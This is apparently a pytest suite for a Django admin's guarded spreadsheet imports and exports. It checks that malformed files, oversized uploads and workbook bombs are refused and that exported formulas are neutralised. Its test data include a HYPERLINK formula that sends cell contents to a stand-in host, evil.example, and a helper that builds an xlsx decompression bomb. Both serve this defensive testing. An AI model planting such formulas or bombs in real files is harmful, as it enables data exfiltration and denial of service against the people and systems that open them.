"""Admin imports refuse what they cannot read as meant: unknown keys, wrong columns, other separators,
oversized files and workbook bombs, each with a message naming the file, row and column, and the
database unchanged; exports never carry a live formula."""

import io
import re
import zipfile

import openpyxl
import pytest
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from import_export.admin import ImportMixin

from codes.admin_imports import GuardedImportExportMixin
from codes.models import BillingCode
from payers.models import CoverageCriterion, Payer
from policyhub.choices import WorkflowState
from tests.factories import DiagnosisCodeFactory
from tests.imports.checksums import table_checksums
from tests.imports.test_admin_import import confirm, csv_of, export, upload

pytestmark = pytest.mark.django_db

COVERAGE = "payers_coveragecriterion"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def refused_file(client, admin, content: bytes, name: str, fmt: str = "csv") -> str:
    """Upload a file that must be refused as a whole; returns the form's message, nothing written."""
    before = table_checksums()
    page = client.post(
        reverse(f"admin:{admin}_import"),
        {
            "resource": "0",
            "format": {"csv": "0", "xlsx": "1", "json": "2"}[fmt],
            "import_file": SimpleUploadedFile(name, content),
        },
    )
    assert page.status_code == 200
    assert "confirm_form" not in page.context and "result" not in page.context
    errors = page.context["form"].errors["import_file"]
    assert len(errors) == 1
    assert errors[0] in page.content.decode().replace("&#x27;", "'").replace("&quot;", '"')
    assert table_checksums() == before
    return errors[0]


def test_unknown_diagnosis_code_in_a_list_is_a_row_error(demo, staff_client):
    """'I35.0 Q23.0 ZZZ.99': the unknown ZZZ99 is named on its row, not silently dropped."""
    DiagnosisCodeFactory(code="I350")
    DiagnosisCodeFactory(code="Q230")
    content = (
        b"code,payer,coverage_status,prior_auth,effective_start,diagnosis_codes\n"
        b"93591,aetna,covered,required,2031-01-01,I35.0 Q23.0 ZZZ.99\n"
    )
    before = table_checksums()
    preview = upload(staff_client, COVERAGE, content, "coverage.csv")
    result = preview.context["result"]
    assert result.has_validation_errors() and "confirm_form" not in preview.context
    (row,) = result.invalid_rows
    assert row.number == 1
    assert "No diagnosis code ZZZ99." in str(row.error_dict["diagnosis_codes"])
    assert "ZZZ99" in preview.content.decode()
    assert table_checksums() == before


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (
            b"hcpcs,payer,coverage_status,effective_start\n93590,aetna,covered,2031-01-01\n",
            "coverage.csv, row 1: missing column(s): code; unknown column(s): hcpcs.",
        ),
        (
            b"code;payer;coverage_status;effective_start\n93590;aetna;covered;2031-01-01\n",
            "coverage.csv, line 1: the columns are separated by semicolons, not commas",
        ),
        (
            b"Dear curator, please load the attached coverage rules\nthanks\n",
            "coverage.csv, row 1: missing column(s): code, payer; unknown column(s): Dear curator, "
            "please load the attached coverage rules.",
        ),
        (
            b"code,payer,coverage_status,effective_start\n93590,aetna,covered,2031-01-01,extra\n",
            "coverage.csv, line 2: the row has 5 values but the header names 4 columns",
        ),
        (
            b'code,payer,coverage_status,effective_start,criteria\n93590,aetna,covered,2031-01-01,"Cut\n',
            "coverage.csv, line 2: the file ends inside a quoted field",
        ),
    ],
    ids=["wrong-headers", "semicolons", "not-a-table", "ragged-row", "open-quote"],
)
def test_file_that_is_not_the_expected_table_is_refused_as_a_whole(demo, staff_client, content, expected):
    assert refused_file(staff_client, COVERAGE, content, "coverage.csv").startswith(expected)


def test_state_forced_to_draft_is_shown_in_the_preview(demo, staff_client):
    """A new row written as published becomes a draft; the preview says so before anything is kept."""
    content = (
        b"code,payer,coverage_status,prior_auth,effective_start,state\n"
        b"93591,aetna,covered,required,2031-01-01,published\n"
    )
    preview = upload(staff_client, COVERAGE, content, "coverage.csv")
    page = preview.content.decode().replace("&#x27;", "'")
    assert "Row 1: state 'published' is stored as 'draft'" in page
    confirm(staff_client, COVERAGE, preview)
    assert CoverageCriterion.objects.get(payer__slug="aetna", effective_start="2031-01-01").state == WorkflowState.DRAFT


def test_oversized_upload_is_dropped_while_it_streams(demo, staff_client, settings):
    settings.IMPORT_MAX_UPLOAD_BYTES = 2048
    content = b"slug,name,kind\n" + b"".join(b"payer-%d,Payer %d,commercial\n" % (n, n) for n in range(200))
    message = refused_file(staff_client, "payers_payer", content, "payers.csv")
    assert message == "payers.csv: the file is larger than the 0 MB an import may be; split it into smaller files"


def test_too_many_rows_are_refused_naming_the_row(demo, staff_client, settings):
    settings.IMPORT_MAX_ROWS = 5
    content = b"slug,name,kind\n" + b"".join(b"payer-%d,Payer %d,commercial\n" % (n, n) for n in range(6))
    message = refused_file(staff_client, "payers_payer", content, "payers.csv")
    assert message.startswith("payers.csv, row 7: the file has more than 5 rows")
    assert not Payer.objects.filter(slug__startswith="payer-").exists()


def xlsx_bomb(rows: int) -> bytes:
    """A valid workbook of `rows` rows of one repeated cell: tiny zipped, large unpacked."""
    buffer = io.BytesIO()
    workbook = openpyxl.Workbook()
    workbook.active.append(["slug", "name", "kind"])
    workbook.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    row = b'<row><c t="inlineStr"><is><t>bomb</t></is></c><c t="inlineStr"><is><t>bomb</t></is></c></row>'
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(item, source.read(item))
                continue
            sheet = source.read(item).decode()
            head, tail = sheet.split("</sheetData>")
            with bomb.open(item.filename, "w") as handle:
                handle.write(head.encode())
                for _ in range(rows // 1000):
                    handle.write(row * 1000)
                handle.write(b"</sheetData>" + tail.encode())
    return out.getvalue()


def test_xlsx_bomb_is_refused_before_it_is_read(demo, staff_client, settings):
    """A workbook under 1 MB that unpacks to 300 MB: refused on its unpacked size; with that cap
    raised, the streaming cell count stops it (its own dimension claims one row)."""
    content = xlsx_bomb(3_000_000)
    assert len(content) < 1024 * 1024
    message = refused_file(staff_client, "payers_payer", content, "payers.xlsx", fmt="xlsx")
    assert re.fullmatch(
        r"payers.xlsx: the workbook unpacks to 2\d\d MB, more than the 200 MB an import may be", message
    )

    settings.IMPORT_MAX_UNPACKED_BYTES = 10**9
    settings.IMPORT_MAX_CELLS = 10_000
    settings.IMPORT_MAX_ROWS = 10**6  # the cell cap, not the row cap, is what this part is about
    message = refused_file(staff_client, "payers_payer", content, "payers.xlsx", fmt="xlsx")
    assert message.startswith("payers.xlsx, row 5000: the sheet has more than 10,000 cells")


def test_formula_cells_are_neutralised_in_csv_and_xlsx_exports_and_restored_on_import(demo, staff_client):
    """A criterion text that would run as a formula is exported as text and re-imports unchanged."""
    criterion = CoverageCriterion.objects.filter(state=WorkflowState.DRAFT).first() or CoverageCriterion.objects.first()
    CoverageCriterion.objects.filter(pk=criterion.pk).update(criteria=FORMULA, limitations="-0.5 is a number")

    text = csv_of(export(staff_client, COVERAGE, "csv"))
    assert "'" + FORMULA.replace('"', '""') in text and ",=" not in text and '"=' not in text

    workbook = openpyxl.load_workbook(io.BytesIO(export(staff_client, COVERAGE, "xlsx").content))
    cells = [cell for row in workbook.active.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
    assert [(cell.value, cell.data_type) for cell in cells] == [("'" + FORMULA, "s")]

    preview = upload(staff_client, COVERAGE, text.encode(), "coverage.csv")
    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert {row.import_type for row in result.rows} == {"skip"}


def test_coverage_page_download_uses_the_same_neutralising(demo, staff_client):
    """Formulas get the apostrophe; a plain negative number does not (formula_safe, not a copy of it)."""
    BillingCode.objects.filter(code="93590").update(short_descriptor="@SUM(A1:A9)")
    BillingCode.objects.filter(code="93592").update(short_descriptor="-2.5")
    body = b"".join(staff_client.get(reverse("coverage-csv")).streaming_content).decode()
    assert "'@SUM(A1:A9)" in body and ",@SUM" not in body
    assert ",-2.5," in body and "'-2.5" not in body


def test_every_admin_with_import_buttons_runs_the_gates():
    """An admin registered with django-import-export's mixin but not the guarded one would skip every check."""
    importing = [model_admin for model_admin in admin.site._registry.values() if isinstance(model_admin, ImportMixin)]
    assert BillingCode in {model_admin.model for model_admin in importing}
    assert [type(a).__name__ for a in importing if not isinstance(a, GuardedImportExportMixin)] == []


def test_workbook_holding_more_rows_than_it_claims_is_refused(demo, staff_client):
    """A sheet whose dimension says one row but holds 1,000: the library would read one and drop the
    rest without a word; the import refuses it instead."""
    message = refused_file(staff_client, "payers_payer", xlsx_bomb(1000), "payers.xlsx", fmt="xlsx")
    assert message.startswith("payers.xlsx, row 2: the sheet's recorded size is 1 row(s) but it holds 1001")
